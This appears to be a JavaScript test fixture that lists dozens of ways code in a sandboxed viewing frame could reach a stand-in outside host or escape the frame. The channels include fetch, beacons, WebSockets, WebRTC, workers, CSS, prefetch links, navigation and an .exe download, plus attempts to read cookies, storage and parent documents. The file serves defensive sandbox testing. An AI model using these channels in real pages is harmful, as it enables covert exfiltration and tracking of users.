// What code in the viewing frame could try, if somebody's file came to run some: each wants out by another way. Every
// attempt takes an address that nothing else uses, such as http://fetch.bocor.example/. Read by test_hostile_evidence.py.
(() => {
  const put = (tag, attributes, place = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    place.append(element);
    return element;
  };
  const draw = (tag, href) => {
    const [svg, shape] = ["svg", tag].map((name) => document.createElementNS("http://www.w3.org/2000/svg", name));
    shape.setAttribute("href", href);
    svg.append(shape);
    document.body.append(svg);
  };
  const call = (Connection, address) => {
    const connection = new Connection({ iceServers: [{ urls: `stun:${new URL(address).hostname}:3478` }] });
    connection.createDataChannel("x");
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  };
  const blob = (text) => URL.createObjectURL(new Blob([text]));
  const relations = ["prefetch", "dns-prefetch", "preconnect", "preload", "modulepreload", "prerender", "stylesheet", "icon", "manifest", "search", "next", "import"];

  return {
    attempts: {
      fetch: (u) => fetch(u),
      "fetch-opaque": (u) => fetch(u, { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
      "fetch-later": (u) => self.fetchLater?.(u),
      xhr: (u) => {
        const request = new XMLHttpRequest();
        request.open("GET", u);
        request.send();
      },
      beacon: (u) => navigator.sendBeacon(u, "x"),
      socket: (u) => new WebSocket(u.replace("http", "ws")).url,
      transport: (u) => new WebTransport(u.replace("http:", "https:")).ready,
      events: (u) => new EventSource(u).url,
      image: (u) => { new Image().src = u; },
      picture: (u) => put("img", { srcset: `${u} 1x`, attributionsrc: u }).src,
      style: (u) => { Object.assign(document.body.style, { backgroundImage: `url(${u})`, cursor: `url(${u}), auto` }); },
      "style-sheet": (u) => put("style", {}).append(`@import url(${u});`),
      "style-made": (u) => {
        const sheet = new CSSStyleSheet();
        sheet.insertRule(`body { border-image: url(${u}) 1; }`);
        document.adoptedStyleSheets = [sheet];
      },
      font: (u) => new FontFace("x", `url(${u})`).load().then(() => 0),
      audio: (u) => put("audio", { src: u, autoplay: "" }).src,
      video: (u) => put("video", { src: u, poster: u, autoplay: "" }).src,
      track: (u) => { put("track", { src: u, default: "" }, put("video", {})).track.mode = "showing"; },
      object: (u) => put("object", { data: u }).data,
      embed: (u) => put("embed", { src: u }).src,
      frame: (u) => put("iframe", { src: u }).src,
      script: (u) => put("script", { src: u }).src,
      module: (u) => import(u),
      rules: (u) => put("script", { type: "speculationrules" }).append(JSON.stringify({ prefetch: [{ source: "list", urls: [u] }], prerender: [{ source: "list", urls: [u] }] })),
      worker: (u) => new Worker(blob(`fetch("${u}")`)).onerror,
      "worker-shared": (u) => new SharedWorker(blob(`fetch("${u}")`)).port.name,
      "worker-service": (u) => navigator.serviceWorker.register(u),
      worklet: (u) => CSS.paintWorklet.addModule(u),
      form: (u) => put("form", { action: u }).submit(),
      "form-blank": (u) => put("form", { action: u, target: "_blank", method: "post" }).requestSubmit(),
      "link-blank": (u) => put("a", { href: u, target: "_blank" }).click(),
      "link-top": (u) => put("a", { href: u, target: "_top" }).click(),
      open: (u) => {
        if (open(u) !== null) throw new Error("a window opened");
      },
      top: (u) => { top.location = u; },
      parent: (u) => { parent.location = u; },
      policy: (u) => put("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'self'; report-uri ${u}` }, document.head).content,
      "svg-image": (u) => draw("image", u),
      "svg-use": (u) => draw("use", `${u}#x`),
      "svg-filter": (u) => draw("feImage", u),
      call: (u) => call(RTCPeerConnection, u),
      "link-imported": (u) => {
        const made = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link").documentElement;
        Object.assign(made, { rel: "dns-prefetch", href: u });
        document.head.append(document.adoptNode(made));
      },
      "link-parsed": (u) => document.head.append(new DOMParser().parseFromString(`<link rel=dns-prefetch href=${u}>`, "text/html").head.firstChild),
      "link-sanitised": (u) => document.body.setHTML(`<link rel=dns-prefetch href=${u}>`, { sanitizer: { elements: ["link"], attributes: ["rel", "href"] } }),
      "link-extended": (u) => {
        const Made = class extends HTMLLinkElement {};
        customElements.define("x-link", Made, { extends: "link" });
        document.head.append(Object.assign(new Made(), { rel: "dns-prefetch", href: u }));
      },
      "call-inner": (u) => call(put("iframe", {}).contentWindow.RTCPeerConnection, u),
      ...Object.fromEntries(relations.map((relation) => [`link-${relation}`, (u) => put("link", { rel: relation, href: u, as: "image" }, document.head).rel])),
    },
    // Each of these ends what the frame shows.
    leavings: {
      location: (u) => { location = u; },
      replace: (u) => location.replace(u),
      refresh: (u) => put("meta", { "http-equiv": "refresh", content: `0;url=${u}` }, document.head).content,
      click: (u) => put("a", { href: u, ping: `${u}ping` }).click(),
      download: (u) => put("a", { href: u, download: "a.exe" }).click(),
      self: (u) => { location = new URL(`/meja/bingkai/?${encodeURIComponent(u)}`, document.baseURI); },
    },
    // Each of these has to throw.
    reaches: {
      "the desk's document": () => parent.parent.document.title,
      "the outer frame's document": () => parent.document.title,
      storage: () => localStorage.length,
      cookies: () => document.cookie,
      databases: () => indexedDB.open("x").readyState,
      caches: () => caches.keys(),
      "text as script": () => eval("1"),
      "text as a function": () => Function("return 1")(),
      "text as markup": () => { document.body.innerHTML = "<b>x</b>"; },
      "script of its own": () => { put("script", {}).text = "1"; },
    },
  };
})()
